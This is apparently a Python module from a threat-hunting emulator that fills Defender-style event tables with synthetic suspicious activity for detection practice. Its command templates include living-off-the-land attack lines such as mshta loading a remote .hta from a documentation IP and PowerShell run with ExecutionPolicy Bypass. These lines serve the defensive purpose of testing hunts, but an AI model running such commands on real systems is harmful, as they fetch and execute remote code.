"""The oddities that any tenant has all the time: odd commands, tools, mails and sign-ins.

The package holds the telling columns of each oddity; the other columns are made as those of rows
in bulk. The oddities of a group happen within minutes of each other, to the same person and device,
and again and again over the days before the anchor.
"""

import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path
from types import MappingProxyType
from typing import Any, Final

from hunting_emulator.data import bulk
from hunting_emulator.engine import Engine

_FILE: Final = Path(__file__).parents[1] / "catalog" / "oddities.json"
# How long before the anchor a group happens; the first two for queries of the last hour or day.
_AGES: Final = tuple(timedelta(hours=hours) for hours in (0.6, 19, 76, 155, 290, 420, 560))
_WITHIN: Final = timedelta(minutes=10)
_ROWS_PER_AGE: Final = 10_000
# How programs that start others are started themselves.
_STARTED: Final = MappingProxyType(
    {
        "cmd.exe": '"{0}" /c "{1}"',
        "powershell.exe": "{0} -ExecutionPolicy Bypass -File C:\\Users\\Public\\run.ps1",
        "wscript.exe": '{0} "C:\\Users\\Public\\Downloads\\order.js"',
        "mshta.exe": "{0} http://198.51.100.23/a.hta",
        "w3wp.exe": '{0} -ap "MSExchangeOWAAppPool" -v "v4.0"',
        "rundll32.exe": "{0} C:\\Users\\Public\\k.dll,Start",
        "svchost.exe": "{0} -k netsvcs -p -s Schedule",
        "bash": "{0} -c '{1}'",
    }
)
_ENDINGS: Final = (".exe", ".dll", ".ps1", ".txt", ".zip", ".bat", ".js", ".dmp", ".log", ".dat")
_TEMP: Final = "C:\\Users\\alex.andersson\\AppData\\Local\\Temp\\"
_PARENTS: Final = (
    *("explorer.exe", "cmd.exe", "powershell.exe", "services.exe", "svchost.exe", "winword.exe"),
    *("excel.exe", "outlook.exe", "w3wp.exe", "wscript.exe", "mshta.exe", "wmiprvse.exe"),
)
_SYSTEM: Final = "C:\\Windows\\System32\\"

Told = Mapping[str, object]


@dataclass(frozen=True, slots=True)
class Oddities:
    """The oddities of a group in a table: the telling columns, a row each.

    `common` columns are the same in all rows, but for the `{Column}` of a row in the text. Each
    row happens so many `times` on an occasion.
    """

    table: str
    group: str
    columns: Sequence[str]
    rows: Sequence[Sequence[object]]
    common: Mapping[str, str] = field(default_factory=dict)
    times: int = 1

    def values(self) -> Iterator[Told]:
        """Yield the telling values of each row."""
        for row in self.rows:
            own = dict(zip(self.columns, row, strict=True))
            common = {name: _filled(text, own) for name, text in self.common.items()}
            yield from [{**_completed(self.table, own), **common, **own}] * self.times


def _filled(text: str, own: Told) -> str:
    for name, value in own.items():
        text = text.replace(f"{{{name}}}", str(value))
    return text


def read() -> tuple[Oddities, ...]:
    """Return the oddities of the package's catalog."""
    listed: list[dict[str, Any]] = json.loads(_FILE.read_text("utf-8"))
    told = [Oddities(**entry) for entry in listed]
    return (*told, *(trace for oddities in told for trace in _traces(oddities)))


def _traces(oddities: Oddities) -> Iterator[Oddities]:
    """Yield the connections and the files that odd processes leave behind."""
    if oddities.table != "DeviceProcessEvents":
        return
    by = ("InitiatingProcessFileName", "InitiatingProcessCommandLine")
    started = [(row[1], row[2]) for row in oddities.rows]
    yield Oddities(
        "DeviceNetworkEvents",
        oddities.group,
        (*by, "RemoteIP"),
        [(*row, f"198.51.100.{1 + place % 250}") for place, row in enumerate(started)],
        {"RemoteIPType": "Public", "ActionType": "ConnectionSuccess"},
    )
    yield Oddities(
        "DeviceFileEvents",
        oddities.group,
        (*by, "FileName"),
        [
            (*row, f"tmp{place}{_ENDINGS[place % len(_ENDINGS)]}")
            for place, row in enumerate(started)
        ],
        {"ActionType": "FileCreated", "FolderPath": _TEMP + "{FileName}"},
    )


def add(engine: Engine, *, anchor: datetime, rows: int, seed: int, tables: Sequence[str]) -> None:
    """Let the oddities happen in these tables, once for each ten thousand `rows` of the tenant."""
    population = max(10, min(2_000, rows // 500))
    ages = _AGES[: rows // _ROWS_PER_AGE]
    listed = read() if ages else ()
    for table in sorted({oddities.table for oddities in listed} & set(tables)):
        told = [row for group in _groups(listed, table) for row in _told(group, anchor, ages)]
        bulk.tell(
            engine.store,
            engine.tables[table],
            told,
            seed=seed,
            people=population,
            devices=population,
        )


def _groups(listed: Sequence[Oddities], table: str) -> Iterator[tuple[int, str, list[Told]]]:
    """Yield the number, the name and the rows of each group that has rows in the table."""
    names = sorted({oddities.group for oddities in listed})
    for number, name in enumerate(names, start=1):
        of_group = [o for o in listed if o.table == table and o.group == name]
        rows = [values for oddities in of_group for values in oddities.values()]
        if rows:
            yield number, name, rows


def _told(
    group: tuple[int, str, list[Told]], anchor: datetime, ages: Sequence[timedelta]
) -> Iterator[bulk.Told]:
    """Yield a group's rows on each occasion, with the same numbers in every table."""
    number, name, rows = group
    step = _WITHIN / len(rows)
    for occasion, age in enumerate(ages):
        for place, values in enumerate(rows):
            key = number * 1_000_000 + occasion * 10_000 + place
            yield bulk.Told(key, f"{name} {occasion}", anchor - age + place * step, values)


def _completed(table: str, own: Told) -> Told:
    complete = _COMPLETED.get(table)
    return {} if complete is None else complete(own)


def _process(values: Told) -> Told:
    file, starter = str(values["FileName"]), str(values["InitiatingProcessFileName"])
    command = str(values["ProcessCommandLine"])
    folder = "/usr/bin/" if "." not in file else _SYSTEM
    return {
        "FolderPath": folder + file,
        "ProcessVersionInfoOriginalFileName": file,
        "InitiatingProcessCommandLine": _STARTED.get(starter, "{}").format(starter, command),
        "InitiatingProcessParentFileName": _PARENTS[len(command) % len(_PARENTS)],
    }


def _initiated(values: Told) -> Told:
    starter = str(values.get("InitiatingProcessFileName", ""))
    return {"InitiatingProcessVersionInfoOriginalFileName": starter}


_COMPLETED: Final = MappingProxyType(
    {
        "DeviceProcessEvents": _process,
        "DeviceNetworkEvents": _initiated,
        "DeviceFileEvents": _initiated,
    }
)
